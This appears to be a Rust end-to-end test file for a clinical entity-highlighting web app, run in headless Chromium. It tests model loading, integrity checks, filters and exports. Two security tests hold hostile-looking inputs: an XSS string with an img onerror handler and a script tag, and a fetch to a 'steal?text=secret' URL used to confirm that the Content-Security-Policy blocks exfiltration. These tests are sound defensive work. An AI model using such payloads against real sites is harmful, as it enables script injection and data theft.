//! End-to-end tests of the built app (`dist/`, from `trunk build --release`) in headless Chromium,
//! driven through ChromeDriver. A tiny static file server in this process serves `dist/` on
//! 127.0.0.1 and can make the model files fail.
//!
//! Nothing here is skipped silently: without `dist/`, Chromium or ChromeDriver the tests FAIL and
//! say to run `scripts/test.sh`, which installs the tools and builds the app first.
#![cfg(not(target_arch = "wasm32"))]

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU8, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use fantoccini::wd::WebDriverCompatibleCommand;
use fantoccini::{Client, ClientBuilder, Locator};
use hyper_util::client::legacy::connect::HttpConnector;
use serde_json::json;

/// Downloading and compiling the worker and loading the model can take a while on a slow CI box.
const READY_TIMEOUT: Duration = Duration::from_secs(180);
const SENTENCE: &str =
    "Cisplatin-induced nephrotoxicity was seen in patients treated for lung cancer.";

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// The built app; its absence is a failure, never a skip.
fn dist() -> PathBuf {
    let dist = std::env::var_os("MEDLIGHT_DIST")
        .map(PathBuf::from)
        .unwrap_or_else(|| repo().join("dist"));
    for needed in [
        "index.html",
        "medlight_bg.wasm",
        "worker_bg.wasm",
        "worker_relaxed_bg.wasm",
        "models/tokenizer.json",
    ] {
        assert!(
            dist.join(needed).is_file(),
            "END-TO-END TESTS CANNOT RUN: {} is missing. Run `scripts/test.sh` (it installs the tools and runs \
             `trunk build --release` first), or build the app yourself with `trunk build --release`.",
            dist.join(needed).display()
        );
    }
    dist
}

// ---------------------------------------------------------------------------------------------
// A static file server for dist/ that records every request it receives.

/// A request as the server received it.
#[derive(Debug, Clone)]
struct Logged {
    method: String,
    target: String,
    body: Vec<u8>,
    /// The browser fetching a service worker script (`Service-Worker: script`), e.g. to check for updates.
    service_worker_script: bool,
}

struct Server {
    url: String,
    /// How requests are answered: [`SERVE`], [`UNAVAILABLE`], [`TAMPERED`] or [`OFFLINE`].
    mode: Arc<AtomicU8>,
    log: Arc<Mutex<Vec<Logged>>>,
    /// Serve sw.js as a new release would: same files, another version.
    new_release: Arc<AtomicBool>,
}

impl Server {
    fn set(&self, mode: u8) {
        self.mode.store(mode, Ordering::SeqCst);
    }

    fn requests(&self) -> Vec<Logged> {
        self.log.lock().unwrap().clone()
    }
}

const SERVE: u8 = 0;
/// Every file under /models/ answers 503.
const UNAVAILABLE: u8 = 1;
/// The model file is served with one byte changed: still a valid model, but not the one shipped.
const TAMPERED: u8 = 2;
/// Connections are closed unanswered, as with the network down.
const OFFLINE: u8 = 3;

fn content_type(path: &Path) -> &'static str {
    match path.extension().and_then(|e| e.to_str()) {
        Some("html") => "text/html; charset=utf-8",
        Some("js") => "text/javascript; charset=utf-8",
        Some("wasm") => "application/wasm",
        Some("css") => "text/css; charset=utf-8",
        Some("json") => "application/json",
        Some("webmanifest") => "application/manifest+json",
        Some("png") => "image/png",
        Some("svg") => "image/svg+xml",
        _ => "application/octet-stream",
    }
}

fn serve(root: PathBuf) -> Server {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind a local port");
    let url = format!("http://{}/", listener.local_addr().unwrap());
    let mode = Arc::new(AtomicU8::new(SERVE));
    let log = Arc::new(Mutex::new(Vec::new()));
    let new_release = Arc::new(AtomicBool::new(false));
    let (shared_mode, shared_log, shared_release) =
        (mode.clone(), log.clone(), new_release.clone());
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let (root, mode, log, release) = (
                root.clone(),
                shared_mode.clone(),
                shared_log.clone(),
                shared_release.clone(),
            );
            std::thread::spawn(move || {
                let _ = answer(stream, &root, &mode, &log, &release);
            });
        }
    });
    Server {
        url,
        mode,
        log,
        new_release,
    }
}

fn answer(
    mut stream: TcpStream,
    root: &Path,
    mode: &AtomicU8,
    log: &Mutex<Vec<Logged>>,
    new_release: &AtomicBool,
) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut request_line = String::new();
    reader.read_line(&mut request_line)?;
    let mut length = 0;
    let mut service_worker_script = false;
    loop {
        let mut header = String::new();
        if reader.read_line(&mut header)? == 0 || header == "\r\n" || header == "\n" {
            break;
        }
        if let Some((name, value)) = header.split_once(':') {
            if name.eq_ignore_ascii_case("content-length") {
                length = value.trim().parse().unwrap_or(0);
            }
            if name.eq_ignore_ascii_case("service-worker") && value.trim() == "script" {
                service_worker_script = true;
            }
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    let mut words = request_line.split_whitespace();
    let method = words.next().unwrap_or("").to_string();
    let target = words.next().unwrap_or("/").to_string();
    log.lock().unwrap().push(Logged {
        method,
        target: target.clone(),
        body,
        service_worker_script,
    });
    let mode = mode.load(Ordering::SeqCst);
    if mode == OFFLINE {
        return Ok(()); // dropped unanswered
    }
    let path = target.split(['?', '#']).next().unwrap_or("/");
    let relative = if path == "/" {
        "index.html"
    } else {
        path.trim_start_matches('/')
    };
    let file = root.join(relative);
    let inside = !relative
        .split('/')
        .any(|part| part == ".." || part.is_empty());
    let is_model = relative.starts_with("models/");
    let (status, body, kind) = match std::fs::read(&file) {
        _ if is_model && mode == UNAVAILABLE => (
            "503 Service Unavailable",
            b"model download disabled by the test".to_vec(),
            "text/plain",
        ),
        Ok(mut body) if inside => {
            if mode == TAMPERED && relative.ends_with(".safetensors") {
                let last = body.len() - 1;
                body[last] ^= 0x40;
            }
            if relative == "sw.js" && new_release.load(Ordering::SeqCst) {
                body = String::from_utf8(body)
                    .unwrap()
                    .replace("const VERSION = \"", "const VERSION = \"next-")
                    .into_bytes();
            }
            ("200 OK", body, content_type(&file))
        }
        _ => ("404 Not Found", b"not found".to_vec(), "text/plain"),
    };
    write!(
        stream,
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nCache-Control: no-store\r\nConnection: close\r\n\r\n",
        body.len()
    )?;
    stream.write_all(&body)?;
    stream.flush()
}

// ---------------------------------------------------------------------------------------------
// ChromeDriver and headless Chromium.

/// A Chrome DevTools Protocol command, sent through ChromeDriver's `goog/cdp/execute`.
#[derive(Debug)]
struct DevTools {
    cmd: &'static str,
    params: serde_json::Value,
}

impl WebDriverCompatibleCommand for DevTools {
    fn endpoint(
        &self,
        base: &url::Url,
        session: Option<&str>,
    ) -> Result<url::Url, url::ParseError> {
        base.join(&format!(
            "session/{}/goog/cdp/execute",
            session.unwrap_or_default()
        ))
    }

    fn method_and_body(&self, _: &url::Url) -> (http::Method, Option<String>) {
        (
            http::Method::POST,
            Some(json!({ "cmd": self.cmd, "params": self.params }).to_string()),
        )
    }
}

/// ChromeDriver's performance log (DevTools events) since the last read.
#[derive(Debug)]
struct PerformanceLog;

impl WebDriverCompatibleCommand for PerformanceLog {
    fn endpoint(
        &self,
        base: &url::Url,
        session: Option<&str>,
    ) -> Result<url::Url, url::ParseError> {
        base.join(&format!("session/{}/se/log", session.unwrap_or_default()))
    }

    fn method_and_body(&self, _: &url::Url) -> (http::Method, Option<String>) {
        (
            http::Method::POST,
            Some(json!({ "type": "performance" }).to_string()),
        )
    }
}

struct Browser {
    client: Option<Client>,
    driver: Child,
    profile: PathBuf,
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.driver.kill();
        let _ = self.driver.wait();
        let _ = std::fs::remove_dir_all(&self.profile);
        let _ = std::fs::remove_file(self.netlog());
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn executable(var: &str, default: &str) -> PathBuf {
    let path = std::env::var_os(var)
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(default));
    assert!(
        path.is_file(),
        "END-TO-END TESTS CANNOT RUN: {} not found (set {var}). Run `scripts/test.sh`, which installs Debian's \
         chromium and chromium-driver.",
        path.display()
    );
    path
}

async fn browser() -> Browser {
    let chromedriver = executable("CHROMEDRIVER", "/usr/bin/chromedriver");
    let chromium = executable("CHROMIUM", "/usr/bin/chromium");
    let port = free_port();
    let driver = Command::new(&chromedriver)
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start chromedriver");
    static SESSIONS: AtomicUsize = AtomicUsize::new(0);
    let profile = std::env::temp_dir().join(format!(
        "medlight-e2e-{}-{}",
        std::process::id(),
        SESSIONS.fetch_add(1, Ordering::SeqCst)
    ));
    let mut browser = Browser {
        client: None,
        driver,
        profile,
    };
    let capabilities = json!({
        "browserName": "chrome",
        "goog:chromeOptions": {
            "binary": chromium,
            // Without these Chromium keeps calling home, which this sandbox's closed network punishes.
            "args": [
                "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", format!("--user-data-dir={}", browser.profile.display()),
                // Every request the browser makes, from any page, worker or service worker.
                format!("--log-net-log={}", browser.netlog().display()),
            ],
            // Exports are saved inside the throwaway profile.
            "prefs": { "download.default_directory": browser.profile.join("downloads"), "download.prompt_for_download": false },
        },
        // Every network request the page and its worker make, for the privacy test.
        "goog:loggingPrefs": { "performance": "ALL" },
    });
    let capabilities = capabilities.as_object().unwrap().clone();
    let webdriver = format!("http://127.0.0.1:{port}");
    let started = Instant::now();
    loop {
        let connected = ClientBuilder::new(HttpConnector::new())
            .capabilities(capabilities.clone())
            .connect(&webdriver)
            .await;
        match connected {
            Ok(client) => {
                browser.client = Some(client);
                return browser;
            }
            Err(e) if started.elapsed() > Duration::from_secs(30) => {
                panic!("no Chromium session through ChromeDriver: {e}")
            }
            Err(_) => tokio::time::sleep(Duration::from_millis(200)).await,
        }
    }
}

impl Browser {
    fn client(&self) -> &Client {
        self.client.as_ref().unwrap()
    }

    async fn close(mut self) {
        if let Some(client) = self.client.take() {
            let _ = client.close().await;
        }
    }

    /// From now on, keeps every file the page offers for download, and what it copies to the
    /// clipboard (`window.__copied`), for [`Browser::export`].
    async fn capture_exports(&self) {
        let script = "window.__exports = []; const create = URL.createObjectURL; \
             URL.createObjectURL = (blob) => { window.__exports.push(blob); return create(blob); }; \
             Clipboard.prototype.writeText = function (text) { window.__copied = text; return Promise.resolve(); };";
        self.client().execute(script, vec![]).await.unwrap();
    }

    /// Clicks the export button `button` (a CSS selector) and returns the text of the file it offers.
    async fn export(&self, button: &str) -> String {
        self.client()
            .find(Locator::Css(button))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        let read_last =
            "const done = arguments[arguments.length - 1]; window.__exports.at(-1).text().then(done);";
        let file = self
            .client()
            .execute_async(read_last, vec![])
            .await
            .unwrap();
        file.as_str().expect("an export is text").to_string()
    }

    fn netlog(&self) -> PathBuf {
        self.profile.with_extension("netlog.json")
    }

    /// Closes the browser and returns every request its network log recorded, as (initiator, URL).
    /// Chromium's NetLog covers the page, its workers and the service worker alike; requests the
    /// browser makes for itself have the initiator "not an origin".
    async fn close_and_read_netlog(mut self) -> Vec<(String, String)> {
        if let Some(client) = self.client.take() {
            let _ = client.close().await;
        }
        // Chromium finishes the log as it exits; a log cut short is closed here.
        let started = Instant::now();
        let mut log = String::new();
        while started.elapsed() < Duration::from_secs(20) {
            log = std::fs::read_to_string(self.netlog()).unwrap_or_default();
            if log.trim_end().ends_with('}') {
                break;
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        assert!(
            !log.is_empty(),
            "Chromium wrote no network log at {}",
            self.netlog().display()
        );
        let log: serde_json::Value = serde_json::from_str(&log)
            .or_else(|_| {
                serde_json::from_str(&format!("{}]}}", log.trim_end().trim_end_matches(',')))
            })
            .expect("a readable NetLog");
        let start_job = &log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"];
        log["events"]
            .as_array()
            .into_iter()
            .flatten()
            .filter(|event| &event["type"] == start_job)
            .map(|event| {
                let field = |name: &str| {
                    event["params"][name]
                        .as_str()
                        .unwrap_or_default()
                        .to_string()
                };
                (field("initiator"), field("url"))
            })
            .collect()
    }

    /// Polls until `css` matches an element; on timeout, fails with what the page shows.
    async fn wait_for(&self, css: &str, timeout: Duration) -> fantoccini::elements::Element {
        match self
            .client()
            .wait()
            .at_most(timeout)
            .every(Duration::from_millis(100))
            .for_element(Locator::Css(css))
            .await
        {
            Ok(element) => element,
            Err(e) => {
                let shown = self.body_text().await;
                panic!("`{css}` did not appear within {timeout:?} ({e}); the page shows:\n{shown}")
            }
        }
    }

    async fn body_text(&self) -> String {
        match self.client().find(Locator::Css("body")).await {
            Ok(body) => body.text().await.unwrap_or_default(),
            Err(e) => format!("<no body: {e}>"),
        }
    }

    /// Replaces the textarea's content by typing it.
    async fn type_text(&self, text: &str) {
        let input = self
            .wait_for("textarea#input", Duration::from_secs(10))
            .await;
        input.clear().await.unwrap();
        input.send_keys(text).await.unwrap();
    }

    /// Replaces the textarea's content as a paste would (one input event), for text with characters
    /// keys cannot type (CR). Returns the textarea's value: HTML turns its CRLF into LF.
    async fn paste_text(&self, text: &str) -> String {
        self.wait_for("textarea#input", Duration::from_secs(10))
            .await;
        let script = "const t = document.querySelector('#input'); t.value = arguments[0]; \
                      t.dispatchEvent(new Event('input', { bubbles: true })); return t.value;";
        self.client()
            .execute(script, vec![json!(text)])
            .await
            .unwrap()
            .as_str()
            .unwrap()
            .to_string()
    }

    /// The textarea's current value.
    async fn input_value(&self) -> serde_json::Value {
        self.client()
            .execute("return document.querySelector('#input').value;", vec![])
            .await
            .unwrap()
    }

    /// Runs a Chrome DevTools Protocol command through ChromeDriver.
    async fn cdp(&self, cmd: &'static str, params: serde_json::Value) -> serde_json::Value {
        self.client()
            .issue_cmd(DevTools { cmd, params })
            .await
            .unwrap_or_else(|e| panic!("{cmd}: {e}"))
    }

    /// Network requests the page and its worker started since the last call: (URL, body).
    async fn requests_seen(&self) -> Vec<(String, String)> {
        let entries = self
            .client()
            .issue_cmd(PerformanceLog)
            .await
            .expect("the performance log");
        let mut out = Vec::new();
        for entry in entries.as_array().into_iter().flatten() {
            let Some(message) = entry["message"].as_str() else {
                continue;
            };
            let event: serde_json::Value = serde_json::from_str(message).unwrap();
            if event["message"]["method"] == "Network.requestWillBeSent" {
                let request = &event["message"]["params"]["request"];
                let body = request["postData"].as_str().unwrap_or_default().to_string();
                out.push((
                    request["url"].as_str().unwrap_or_default().to_string(),
                    body,
                ));
            }
        }
        out
    }

    /// Waits until the service worker controls the page (it has cached the app and the model).
    async fn wait_for_service_worker(&self) {
        let started = Instant::now();
        loop {
            let controlled = self
                .client()
                .execute(
                    "return navigator.serviceWorker.controller !== null;",
                    vec![],
                )
                .await
                .unwrap();
            if controlled == json!(true) {
                return;
            }
            assert!(
                started.elapsed() < READY_TIMEOUT,
                "no service worker took control of the page"
            );
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }

    /// The marks of the finished result (whatever its text): (id, text, label, title).
    async fn marks(&self) -> Vec<(String, String, String, String)> {
        self.wait_for(".annotated[data-state='done']", Duration::from_secs(60))
            .await;
        let script = "return [...document.querySelectorAll('.annotated mark')].map(m => [m.id, m.textContent, m.dataset.label, m.title]);";
        let value = self.client().execute(script, vec![]).await.unwrap();
        serde_json::from_value::<Vec<(String, String, String, String)>>(value).unwrap()
    }

    /// The highlights (text, label, tooltip) once the finished result shows exactly `text`.
    async fn annotated(&self, text: &str) -> Vec<(String, String, String)> {
        let started = Instant::now();
        let shown = "const r = document.querySelector(\".annotated[data-state='done']\"); return r ? r.textContent : null;";
        loop {
            if self.client().execute(shown, vec![]).await.unwrap().as_str() == Some(text) {
                return self
                    .marks()
                    .await
                    .into_iter()
                    .map(|(_, text, label, title)| (text, label, title))
                    .collect();
            }
            if started.elapsed() > Duration::from_secs(120) {
                let body = self.body_text().await;
                panic!(
                    "the annotated text never became {:?}; the page shows:\n{}",
                    text.chars().take(200).collect::<String>(),
                    body.chars().take(2000).collect::<String>()
                );
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

// ---------------------------------------------------------------------------------------------

/// The built app on a fresh server, open in a fresh browser, with the model ready.
async fn open_app() -> (Server, Browser) {
    let server = serve(dist());
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();
    browser.wait_for(".status .ready", READY_TIMEOUT).await;
    (server, browser)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_loads_the_model_and_highlights_entities_as_text() {
    let server = serve(dist());
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();

    let privacy = browser
        .wait_for(".privacy", Duration::from_secs(30))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        privacy.contains("never leaves this page"),
        "privacy statement: {privacy}"
    );
    let ready = browser
        .wait_for(".status .ready", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(ready.starts_with("Model ready in"), "{ready}");
    browser.wait_for(".legend li", Duration::from_secs(5)).await;
    let mut legend = Vec::new();
    for item in browser
        .client()
        .find_all(Locator::Css(".legend li"))
        .await
        .unwrap()
    {
        legend.push(item.text().await.unwrap());
    }
    assert_eq!(legend, ["Chemical", "Disease"]);

    browser.type_text(SENTENCE).await;
    let marks = browser.annotated(SENTENCE).await;
    let found: Vec<(&str, &str)> = marks
        .iter()
        .map(|(t, l, _)| (t.as_str(), l.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            ("Cisplatin", "Chemical"),
            ("nephrotoxicity", "Disease"),
            ("lung cancer", "Disease")
        ]
    );
    for (_, label, title) in &marks {
        // "Disease · 87% confidence", then " · MeSH D007674 Kidney Diseases" once linked.
        let confidence = title
            .strip_prefix(&format!("{label} · "))
            .and_then(|t| t.split(" · ").next())
            .and_then(|t| t.strip_suffix("% confidence"));
        assert!(
            confidence.is_some_and(|p| p.parse::<u8>().is_ok()),
            "tooltip {title:?}"
        );
    }

    // User text is text: markup typed into the box is shown, never parsed or run.
    let hostile = r#"Aspirin <img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script> caused <b>nausea</b>."#;
    browser.type_text(hostile).await;
    browser.annotated(hostile).await;
    let injected = browser
        .client()
        .find_all(Locator::Css(".result img, .result script, .result b"))
        .await
        .unwrap();
    assert!(
        injected.is_empty(),
        "typed markup became {} element(s)",
        injected.len()
    );
    let pwned = browser
        .client()
        .execute("return window.__pwned === undefined;", vec![])
        .await
        .unwrap();
    assert_eq!(pwned, json!(true), "typed markup ran a script");

    // Byte offsets from the worker land on the right characters in multi-byte text.
    let shown = browser
        .paste_text("Café 💊 β-blockers: cisplatin caused 肝炎 and nephrotoxicity.\r\nNo aspirin.")
        .await;
    let marks = browser.annotated(&shown).await;
    assert!(
        marks
            .iter()
            .any(|(t, l, _)| t == "cisplatin" && l == "Chemical"),
        "{marks:?}"
    );
    assert!(
        marks
            .iter()
            .any(|(t, l, _)| t == "nephrotoxicity" && l == "Disease"),
        "{marks:?}"
    );
    for (text, _, _) in &marks {
        assert!(
            shown.contains(text.as_str()) && !text.contains('\u{FFFD}'),
            "mangled highlight {text:?}"
        );
    }

    // Blank input: a hint, no stale result.
    browser.paste_text("   ").await;
    let hint = browser
        .wait_for(".result .hint", Duration::from_secs(10))
        .await
        .text()
        .await
        .unwrap();
    assert!(hint.contains("Type or paste text"), "{hint}");
    assert!(browser
        .client()
        .find_all(Locator::Css(".annotated"))
        .await
        .unwrap()
        .is_empty());

    // The Content-Security-Policy stops the page from sending anything to another origin.
    let outcome = browser
        .client()
        .execute_async(
            "const done = arguments[arguments.length - 1]; const violations = [];
             document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
             fetch('http://127.0.0.2:9/steal?text=secret')
               .then(() => false, () => true)
               .then((blocked) => setTimeout(() => done({ blocked, violations }), 100));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(outcome["blocked"], json!(true), "{outcome}");
    assert!(
        outcome["violations"]
            .as_array()
            .unwrap()
            .contains(&json!("connect-src")),
        "{outcome}"
    );
    browser.close().await;
}

/// Opens the app with the server in `mode`; returns the model error the page shows instead of "ready".
async fn open_failing(mode: u8) -> (Server, Browser, String) {
    let server = serve(dist());
    server.set(mode);
    let browser = browser().await;
    browser.client().goto(&server.url).await.unwrap();
    let error = browser
        .wait_for(".status .error", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(browser
        .client()
        .find_all(Locator::Css(".status .ready"))
        .await
        .unwrap()
        .is_empty());
    (server, browser, error)
}

/// Once the server has the right files again, Retry loads the model.
async fn retry_recovers(server: &Server, browser: &Browser) {
    server.set(SERVE);
    browser
        .wait_for("button.retry", Duration::from_secs(5))
        .await
        .click()
        .await
        .unwrap();
    let ready = browser
        .wait_for(".status .ready", READY_TIMEOUT)
        .await
        .text()
        .await
        .unwrap();
    assert!(ready.starts_with("Model ready in"), "{ready}");
}

/// A browser without relaxed SIMD (simulated: the page's `WebAssembly.validate` refuses every
/// module, as such an engine refuses the probe) gets the baseline-SIMD worker, which tags the same.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_without_relaxed_simd_the_baseline_worker_tags_the_same() {
    let server = serve(dist());
    let browser = browser().await;
    browser.cdp("Page.enable", json!({})).await;
    browser
        .cdp(
            "Page.addScriptToEvaluateOnNewDocument",
            json!({ "source": "WebAssembly.validate = () => false;" }),
        )
        .await;
    browser.client().goto(&server.url).await.unwrap();
    browser.wait_for(".status .ready", READY_TIMEOUT).await;
    browser.type_text(SENTENCE).await;
    let marks = browser.annotated(SENTENCE).await;
    let found: Vec<(&str, &str)> = marks
        .iter()
        .map(|(t, l, _)| (t.as_str(), l.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            ("Cisplatin", "Chemical"),
            ("nephrotoxicity", "Disease"),
            ("lung cancer", "Disease")
        ]
    );
    // The service worker, which the override does not reach, caches the relaxed build as this Chromium
    // has relaxed SIMD (e2e_no_request_… checks it fetches nothing else); the baseline build's files
    // can only have been asked for by the page and its worker.
    let paths: Vec<String> = server.requests().into_iter().map(|r| r.target).collect();
    for file in ["/worker_loader.js", "/worker_bg.wasm"] {
        assert!(
            paths.iter().any(|p| p == file),
            "the page did not load the baseline worker's {file}: {paths:?}"
        );
    }
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_a_failed_model_download_shows_an_error_and_retry_recovers() {
    let (server, browser, error) = open_failing(UNAVAILABLE).await;
    assert!(
        error.contains("The model could not be loaded: cannot download models/medlight-q8_0.safetensors: HTTP 503"),
        "error message: {error}"
    );
    assert!(server
        .requests()
        .iter()
        .any(|r| r.target.starts_with("/models/")));
    retry_recovers(&server, &browser).await;
    browser.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_a_tampered_model_file_fails_the_integrity_check() {
    let (server, browser, error) = open_failing(TAMPERED).await;
    assert!(
        error.contains("integrity check failed: models/medlight-q8_0.safetensors has SHA-256"),
        "error message: {error}"
    );
    assert!(error.contains("so it was not used"), "{error}");
    // The bad copy is not kept (not even in the offline cache): Retry downloads the file again.
    retry_recovers(&server, &browser).await;
    browser.close().await;
}

const REPEATED: &str = "Aspirin and cisplatin caused nausea. Aspirin again caused nausea and lung cancer. aspirin helped.";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_panel_filters_and_exports_follow_the_highlights() {
    let (_server, browser) = open_app().await;
    browser.paste_text(REPEATED).await;
    browser.annotated(REPEATED).await;
    let marks = browser.marks().await;
    assert!(
        marks.iter().filter(|m| m.2 == "Chemical").count() >= 2,
        "{marks:?}"
    );
    assert!(marks.iter().any(|m| m.2 == "Disease"), "{marks:?}");

    // The panel lists each unique entity (type + text up to case) with its count.
    let mut expected: Vec<(String, String, usize)> = Vec::new();
    for (_, text, label, _) in &marks {
        match expected
            .iter_mut()
            .find(|(l, t, _)| l == label && t.to_lowercase() == text.to_lowercase())
        {
            Some(entry) => entry.2 += 1,
            None => expected.push((label.clone(), text.clone(), 1)),
        }
    }
    let script = "return [...document.querySelectorAll('.panel button.unique')].map(b => \
                  [b.dataset.label, b.querySelector('.entity').textContent, Number(b.querySelector('.count').textContent)]);";
    let panel: Vec<(String, String, usize)> =
        serde_json::from_value(browser.client().execute(script, vec![]).await.unwrap()).unwrap();
    let mut sorted_expected = expected.clone();
    sorted_expected.sort();
    let mut sorted_panel = panel.clone();
    sorted_panel.sort();
    assert_eq!(sorted_panel, sorted_expected);
    assert!(
        panel.windows(2).all(|w| w[0].2 >= w[1].2),
        "most frequent first: {panel:?}"
    );

    // Clicking an entry focuses its occurrences in turn.
    let (label, text, count) = panel[0].clone();
    assert!(count >= 2, "{panel:?}");
    let button = browser
        .client()
        .find(Locator::Css(".panel button.unique"))
        .await
        .unwrap();
    let focused =
        "const m = document.activeElement; return [m.id, m.textContent, m.dataset.label || ''];";
    let mut visited = Vec::new();
    for _ in 0..count {
        button.click().await.unwrap();
        let (id, shown, shown_label): (String, String, String) =
            serde_json::from_value(browser.client().execute(focused, vec![]).await.unwrap())
                .unwrap();
        assert!(id.starts_with("mention-"), "focused {id:?}");
        assert_eq!(
            (shown.to_lowercase(), shown_label),
            (text.to_lowercase(), label.clone())
        );
        visited.push(id);
    }
    let mut distinct = visited.clone();
    distinct.dedup();
    assert_eq!(distinct.len(), count, "each click moves on: {visited:?}");

    // A type switched off disappears from the text and the panel; switched on, it returns.
    let toggle = browser
        .client()
        .find(Locator::Css("input[type=checkbox][data-label='Disease']"))
        .await
        .unwrap();
    toggle.click().await.unwrap();
    let filtered = browser.marks().await;
    assert!(filtered.iter().all(|m| m.2 != "Disease"), "{filtered:?}");
    assert_eq!(
        filtered.len(),
        marks.iter().filter(|m| m.2 != "Disease").count()
    );
    let panel_labels = browser.client().execute(
        "return [...document.querySelectorAll('.panel button.unique')].map(b => b.dataset.label);", vec![]).await.unwrap();
    assert!(
        !panel_labels.to_string().contains("Disease"),
        "{panel_labels}"
    );
    toggle.click().await.unwrap();
    assert_eq!(browser.marks().await.len(), marks.len());

    // The confidence threshold hides what scores below it.
    let set_threshold = "const t = document.querySelector('#threshold'); t.value = arguments[0]; \
                         t.dispatchEvent(new Event('input', { bubbles: true }));";
    browser
        .client()
        .execute(set_threshold, vec![json!("100")])
        .await
        .unwrap();
    let confident = browser.marks().await;
    assert!(
        confident.iter().all(|m| m.3.contains("· 100% confidence")),
        "{confident:?}"
    );
    let all_certain = marks.iter().all(|m| m.3.contains("· 100% confidence"));
    if !all_certain {
        assert!(confident.len() < marks.len());
        let stats = browser
            .wait_for(".result .stats", Duration::from_secs(5))
            .await
            .text()
            .await
            .unwrap();
        assert!(stats.contains("hidden by filters"), "{stats}");
    }
    browser
        .client()
        .execute(set_threshold, vec![json!("0")])
        .await
        .unwrap();
    assert_eq!(browser.marks().await.len(), marks.len());

    // Exports: capture what the page hands to the browser.
    browser.capture_exports().await;
    let exported = browser.export("button.export-json").await;
    let document: serde_json::Value = serde_json::from_str(&exported).unwrap();
    assert_eq!(document["text"], REPEATED);
    let entities = document["entities"].as_array().unwrap();
    assert_eq!(entities.len(), marks.len());
    let chars: Vec<char> = REPEATED.chars().collect();
    for (entity, mark) in entities.iter().zip(&marks) {
        let (start, end) = (
            entity["start"].as_u64().unwrap() as usize,
            entity["end"].as_u64().unwrap() as usize,
        );
        assert_eq!(chars[start..end].iter().collect::<String>(), mark.1);
        assert_eq!(
            (
                entity["text"].as_str().unwrap(),
                entity["label"].as_str().unwrap()
            ),
            (mark.1.as_str(), mark.2.as_str())
        );
    }

    let csv = browser.export("button.export-csv").await;
    assert!(
        csv.starts_with("start,end,label,score,text,negated,certainty,temporality,experiencer,context_trigger,concept_id,concept_name\n"),
        "{csv}"
    );
    assert_eq!(csv.lines().count(), marks.len() + 1);

    let ann = browser.export("button.export-brat").await;
    let lines: Vec<&str> = ann.lines().filter(|l| l.starts_with('T')).collect();
    assert_eq!(lines.len(), marks.len());
    for (n, (line, mark)) in lines.iter().zip(&marks).enumerate() {
        let fields: Vec<&str> = line.split('\t').collect();
        assert_eq!(fields[0], format!("T{}", n + 1));
        assert!(fields[1].starts_with(&format!("{} ", mark.2)), "{line}");
        assert_eq!(fields[2], mark.1);
    }

    browser
        .client()
        .find(Locator::Css("button.export-copy"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    let message = browser
        .wait_for(".export-message", Duration::from_secs(5))
        .await
        .text()
        .await
        .unwrap();
    assert!(message.contains("Copied"), "{message}");
    let copied = browser
        .client()
        .execute("return window.__copied;", vec![])
        .await
        .unwrap();
    assert_eq!(copied.as_str(), Some(exported.as_str()));
    browser.close().await;
}

/// A note whose four conditions each have a different clinical context. (The shipped model misses
/// "fever" and "MI" in such notes, so the note names conditions it finds.)
const CONTEXT_NOTE: &str =
    "She denies headache. History of stroke. Mother had breast cancer. Rule out myocardial infarction.";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn e2e_each_entity_shows_its_clinical_context_in_the_text_the_panel_and_the_export() {
    let (_server, browser) = open_app().await;
    browser.paste_text(CONTEXT_NOTE).await;
    browser.annotated(CONTEXT_NOTE).await;
    let script = "return [...document.querySelectorAll('.annotated mark')].map(m => \
                  [m.textContent, m.dataset.context, m.getAttribute('aria-label')]);";
    let marks: Vec<(String, String, String)> =
        serde_json::from_value(browser.client().execute(script, vec![]).await.unwrap()).unwrap();
    let expected = [
        ("headache", "negated", "negated by 'denies'"),
        ("stroke", "historical", "historical by 'History'"),
        (
            "breast cancer",
            "family",
            "experienced by family by 'Mother'",
        ),
        (
            "myocardial infarction",
            "possible",
            "possible by 'Rule out'",
        ),
    ];
    assert_eq!(marks.len(), expected.len(), "{marks:?}");
